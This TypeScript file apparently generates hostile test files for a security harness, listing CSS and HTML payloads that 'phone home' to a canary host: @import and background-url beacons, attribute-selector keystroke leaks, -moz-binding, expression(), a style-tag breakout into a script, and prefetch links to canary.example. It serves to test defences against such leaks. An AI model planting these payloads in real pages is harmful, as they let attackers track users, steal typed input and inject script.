import { dressed } from './dress.ts'
import type { Draw, HostileFile } from './hostile-file.ts'
import { SCRIPT, SCRIPT_LINK, canary } from './script.ts'

const TEXTS: readonly string[] = [
  `@import url("${canary('import.css')}");`,
  `body{background:url(${canary('background.png')})}`,
  `@font-face{font-family:x;src:url(${canary('font.woff2')})}*{font-family:x}`,
  `input[value^="a"]{background:url(${canary('key-a')})}input[value^="b"]{background:url(${canary('key-b')})}`,
  `body::after{content:url(${canary('content.png')})}`,
  `body{background:url("${SCRIPT_LINK}");-moz-binding:url(${canary('xbl')}#x)}`,
  `<style>@import '${canary('style.css')}';</style><link rel=stylesheet href="${canary('link.css')}">`,
  `</style><script>${SCRIPT}</script><style>`,
  `<link rel=prefetch href="${canary('prefetch')}"><link rel=dns-prefetch href="//canary.example"><link rel=preload as=style href="${canary('preload')}">`,
  `<div style="background:url(${canary('div.png')});width:expression(${SCRIPT})">x</div>`,
  `@namespace url(${canary('namespace')});@page{background:url(${canary('page.png')})}:visited{color:red}`,
]

/** Style sheets that phone home, bare and inside of pages. */
export function cssFiles(draw: Draw): HostileFile[] {
  const parts = {
    texts: TEXTS,
    extensions: ['.css', '.css', '.html', '.md', '.txt'],
    comment: (letters: string) => `/* ${letters} */`,
  }
  return dressed('css', parts, draw)
}
